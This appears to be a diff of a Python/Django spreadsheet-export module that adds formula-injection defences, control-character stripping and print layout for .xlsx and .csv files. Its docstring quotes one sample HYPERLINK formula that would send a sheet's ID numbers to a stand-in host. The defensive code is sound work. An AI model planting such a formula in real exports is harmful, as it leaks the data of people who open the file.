@@ -1,22 +1,47 @@
 """One writer for every .xlsx and .csv the product hands out.
 
-Exports are row generators (see members, activities): ``write_table`` streams them into
-a file without holding the sheet in memory, using openpyxl's write-only mode.
+Exports are row generators (see members, activities): ``write_xlsx`` streams them into a file
+without holding the sheet in memory, using openpyxl's write-only mode.
+
+Every text cell passes ``safe_text`` on its way out, because an export is read by someone other
+than the person who typed into it:
+- a value starting with ``= + - @``, a tab or a carriage return is what Excel, WPS and LibreOffice
+  take for a formula (``=HYPERLINK("http://x/?d="&D3,"查看")`` in a note would send the ID numbers
+  of the reader's sheet away); it is written with a leading apostrophe, and in .xlsx as a string
+  cell, so it shows as the text it is;
+- control characters (a vertical tab pasted from Word) make a workbook that Excel refuses to open,
+  and openpyxl refuses to write one; they are dropped, for .csv too.
+
+A titled .xlsx is a document for people, ready for the office: the sheet named for its content, a
+merged title row, a 序号 column, and print setup (landscape, one page wide, the header row repeated
+on every page). An untitled one is data for machines (failed rows to fix and import again) and gets
+only the header. .csv is always plain data.
 """
 
 import csv
 import io
+import re
 import tempfile
 from collections.abc import Iterable, Sequence
 from dataclasses import dataclass
+from decimal import Decimal
 
+from django.utils.translation import gettext as _
 from openpyxl import Workbook
 from openpyxl.cell import WriteOnlyCell
-from openpyxl.styles import Alignment, Font, PatternFill
+from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
 from openpyxl.utils import get_column_letter
+from openpyxl.worksheet.properties import PageSetupProperties
+from openpyxl.worksheet.worksheet import Worksheet
 
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 CSV_TYPE = "text/csv; charset=utf-8"
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# What XML 1.0 (and so .xlsx) cannot hold: C0 controls except tab, line feed and carriage return.
+CONTROL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
+# Characters Excel refuses in a sheet name.
+SHEET_NAME_REFUSED = re.compile(r"[\[\]:*?/\\]")
 
 
 @dataclass(frozen=True)
@@ -25,51 +50,117 @@ class Column:
     width: int = 14  # in characters; a Chinese character counts about two
 
 
-def _text(value):
-    return "" if value is None else str(value)
+def safe_text(value) -> str:
+    """The text of a cell as a spreadsheet may be given it: controls dropped, formulas made inert."""
+    text = CONTROL_CHARACTERS.sub("", "" if value is None else str(value))
+    if text.startswith(FORMULA_STARTS):
+        return "'" + text
+    return text
 
 
-def write_xlsx(columns: Sequence[Column], rows: Iterable[Sequence], *, title: str = "", sheet: str = "Sheet1"):
-    """Return the bytes of a styled workbook: optional title row, bold frozen header."""
+def _cell_value(value):
+    """Numbers, dates and booleans stay typed; everything else is made safe text."""
+    if value is None or isinstance(value, int | float | Decimal) or hasattr(value, "isoformat"):
+        return value
+    return safe_text(value)
+
+
+def sheet_name(name: str) -> str:
+    """A sheet name Excel accepts: no ``[]:*?/\\``, at most 31 characters, never empty."""
+    cleaned = SHEET_NAME_REFUSED.sub("", CONTROL_CHARACTERS.sub("", str(name))).strip("' ")
+    return cleaned[:31] or "Sheet1"
+
+
+def write_xlsx(
+    columns: Sequence[Column],
+    rows: Iterable[Sequence],
+    *,
+    title: str = "",
+    sheet: str = "",
+    numbered: bool | None = None,
+) -> bytes:
+    """Return the bytes of a styled workbook (see the module's docstring for what a title brings).
+
+    ``sheet`` names the sheet (default: the title); ``numbered`` adds the 序号 column (default: with a
+    title, unless the columns already start with one).
+    """
+    headers = [str(column.header) for column in columns]
+    if numbered is None:
+        numbered = bool(title) and _("序号") not in headers[:1]
+    widths = [column.width for column in columns]
+    if numbered:
+        headers, widths = [_("序号"), *headers], [6, *widths]
     workbook = Workbook(write_only=True)
-    worksheet = workbook.create_sheet(sheet[:31])
-    for index, column in enumerate(columns, start=1):
-        worksheet.column_dimensions[get_column_letter(index)].width = column.width
-    # The sheet's view is written before its first row, so freeze first.
-    worksheet.freeze_panes = "A3" if title else "A2"
+    worksheet = workbook.create_sheet(sheet_name(sheet or title or "Sheet1"))
+    header_row = 2 if title else 1
+    _set_up_page(worksheet, widths, header_row)
     if title:
-        cell = WriteOnlyCell(worksheet, value=str(title))
-        cell.font = Font(bold=True, size=14)
-        worksheet.append([cell])
-    header_font = Font(bold=True, color="FFFFFF")
-    header_fill = PatternFill("solid", fgColor="B71C1C")
-    header_cells = []
-    for column in columns:
-        cell = WriteOnlyCell(worksheet, value=str(column.header))
-        cell.font = header_font
-        cell.fill = header_fill
-        cell.alignment = Alignment(horizontal="center", vertical="center")
-        header_cells.append(cell)
-    worksheet.append(header_cells)
-    for row in rows:
-        worksheet.append(list(row))
+        worksheet.append([_title_cell(worksheet, title)])
+        worksheet.merged_cells.add(f"A1:{get_column_letter(len(headers))}1")
+    worksheet.append([_header_cell(worksheet, header) for header in headers])
+    for number, row in enumerate(rows, start=1):
+        values = [_cell_value(value) for value in row]
+        worksheet.append([_body_cell(worksheet, value) for value in ([number, *values] if numbered else values)])
     with tempfile.SpooledTemporaryFile(max_size=8 * 1024 * 1024) as buffer:
         workbook.save(buffer)
         buffer.seek(0)
         return buffer.read()
 
 
+def _set_up_page(worksheet, widths, header_row):
+    """Widths, the frozen header and print setup; a write-only sheet takes them before its first row."""
+    for index, width in enumerate(widths, start=1):
+        worksheet.column_dimensions[get_column_letter(index)].width = width
+    worksheet.freeze_panes = f"A{header_row + 1}"
+    worksheet.page_setup.orientation = "landscape"
+    worksheet.page_setup.paperSize = Worksheet.PAPERSIZE_A4
+    worksheet.page_setup.fitToWidth = 1
+    worksheet.page_setup.fitToHeight = 0  # as many pages down as the rows need
+    worksheet.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
+    worksheet.print_title_rows = f"{header_row}:{header_row}"
+    worksheet.print_options.horizontalCentered = True
+
+
+_THIN = Side(style="thin", color="BBBBBB")
+_BORDER = Border(left=_THIN, right=_THIN, top=_THIN, bottom=_THIN)
+
+
+def _title_cell(worksheet, title):
+    cell = WriteOnlyCell(worksheet, value=safe_text(title))
+    cell.font = Font(bold=True, size=14)
+    cell.alignment = Alignment(horizontal="center", vertical="center")
+    return cell
+
+
+def _header_cell(worksheet, header):
+    cell = WriteOnlyCell(worksheet, value=safe_text(header))
+    cell.font = Font(bold=True, color="FFFFFF")
+    cell.fill = PatternFill("solid", fgColor="B71C1C")
+    cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
+    cell.border = _BORDER
+    return cell
+
+
+def _body_cell(worksheet, value):
+    cell = WriteOnlyCell(worksheet, value=value)
+    if isinstance(value, str):
+        # A string cell, whatever openpyxl would guess: "=..." is never written as a formula.
+        cell.data_type = "s"
+    cell.border = _BORDER
+    return cell
+
+
 def write_csv(columns: Sequence[Column], rows: Iterable[Sequence]) -> bytes:
     """UTF-8 with a byte-order mark, which Excel on a Chinese Windows needs to read it."""
     out = io.StringIO()
     writer = csv.writer(out)
-    writer.writerow([str(c.header) for c in columns])
+    writer.writerow([safe_text(c.header) for c in columns])
     for row in rows:
-        writer.writerow([_text(v) for v in row])
+        writer.writerow([safe_text(v) for v in row])
     return ("\ufeff" + out.getvalue()).encode("utf-8")
 
 
-def table_response(columns, rows, *, filename: str, fmt: str = "xlsx", title: str = ""):
+def table_response(columns, rows, *, filename: str, fmt: str = "xlsx", title: str = "", sheet: str = ""):
     """An HttpResponse with the table as an attachment, .xlsx or .csv."""
     from django.http import HttpResponse
 
@@ -77,7 +168,7 @@ def table_response(columns, rows, *, filename: str, fmt: str = "xlsx", title: st
         response = HttpResponse(write_csv(columns, rows), content_type=CSV_TYPE)
         filename = f"{filename}.csv"
     else:
-        response = HttpResponse(write_xlsx(columns, rows, title=title), content_type=XLSX_TYPE)
+        response = HttpResponse(write_xlsx(columns, rows, title=title, sheet=sheet), content_type=XLSX_TYPE)
         filename = f"{filename}.xlsx"
     from django.utils.http import content_disposition_header
 
